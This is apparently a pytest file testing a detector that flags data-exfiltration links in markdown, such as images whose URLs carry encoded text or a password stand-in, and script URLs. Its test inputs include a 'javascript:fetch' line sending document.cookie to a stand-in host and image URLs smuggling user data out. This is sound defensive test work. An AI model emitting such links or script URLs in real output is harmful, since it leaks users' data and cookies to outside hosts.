"""Judging: the thresholds, the list of hosts, and what a listed host may still not be sent."""

import base64

import pytest

from stockade.guard.detectors.exfiltration_links import judging
from stockade.guard.detectors.exfiltration_links.judging import judge_of

LOADED = "https://c.example/?d=" + base64.urlsafe_b64encode(b"the order of Ana is cancelled").decode().rstrip("=")
IMAGE, LINK = ("![a](", ")"), ("[a](", ")")
STAND_IN = "PASSWORD_abcdefgh23456777"


def judged(around: tuple[str, str], url: str, *hosts: str) -> str:
    return judge_of(hosts)(around[0], url, around[1])


def test_the_same_address_is_worse_where_it_is_fetched() -> None:
    assert judged(IMAGE, LOADED) == judging.IMAGE_DATA
    assert judged(LINK, LOADED) == judging.LINK_DATA
    assert judged(("see ", " ok"), LOADED) == judging.PLAIN_DATA


def test_a_few_words_are_much_in_an_image_and_little_in_a_link() -> None:
    url = "https://c.example/?q=the+order+of+Ana+Silva+is+cancelled"
    assert judged(IMAGE, url) == judging.IMAGE_DATA
    assert judged(LINK, url) == ""
    assert judged(LINK, url + 5 * "+and+some+more+words+are+added+to+it") == judging.LINK_TEXT


def test_with_a_list_every_other_host_is_a_finding() -> None:
    plain = "https://other.example/a.png"
    assert judged(IMAGE, plain) == ""
    assert judged(IMAGE, plain, "c.example") == judging.HOST_NOT_LISTED
    assert judged(("", ""), plain, "c.example") == judging.HOST_NOT_LISTED
    assert judged(("see ", " ok"), plain, "c.example") == ""


def test_a_listed_host_may_be_sent_text_but_no_stand_in() -> None:
    assert judged(IMAGE, LOADED, "c.example") == ""
    assert judged(IMAGE, f"https://c.example/?k={STAND_IN}", "c.example") == judging.RENDERED_STAND_IN


@pytest.mark.parametrize(
    ("url", "rule"),
    [
        (f"https://c.example/?k={STAND_IN}", judging.PLAIN_STAND_IN),
        (f"https://user:{STAND_IN}@c.example/repo.git", ""),
        (f"https://c.example/services/{STAND_IN}", ""),
    ],
)
def test_a_stand_in_outside_of_markup(url: str, rule: str) -> None:
    assert judged(("curl ", " -s"), url) == rule


@pytest.mark.parametrize(
    ("url", "rule"),
    [
        ("javascript:void(0)", ""),
        ("javascript:history.back()", ""),
        ("javascript:;", ""),
        ("javascript:toggle('menu')", ""),
        ("javascript:fetch('//c.example/'+document.cookie)", judging.SCRIPT_LINK),
        ("vbscript:window.open(x)", judging.SCRIPT_LINK),
    ],
)
def test_scripts_that_reach_out(url: str, rule: str) -> None:
    assert judged(LINK, url) == rule
    assert judged(("never write ", " here"), url) == ""


def test_a_picture_in_an_image_does_nothing() -> None:
    assert judged(IMAGE, "data:image/svg+xml;base64,PHN2Zz4") == ""
    assert judged(LINK, "data:image/svg+xml;base64,PHN2Zz4") == judging.ACTIVE_DATA_URL
    assert judged(IMAGE, "data:text/html,x") == judging.ACTIVE_DATA_URL


def test_a_long_address_is_judged_and_not_kept() -> None:
    judge = judge_of(())
    url = "https://c.example/?d=" + "QUJD" * judging.KEPT_CHARS_MAX
    assert judge("![a](", url, ")") == judge("![a](", url, ")") == judging.IMAGE_DATA
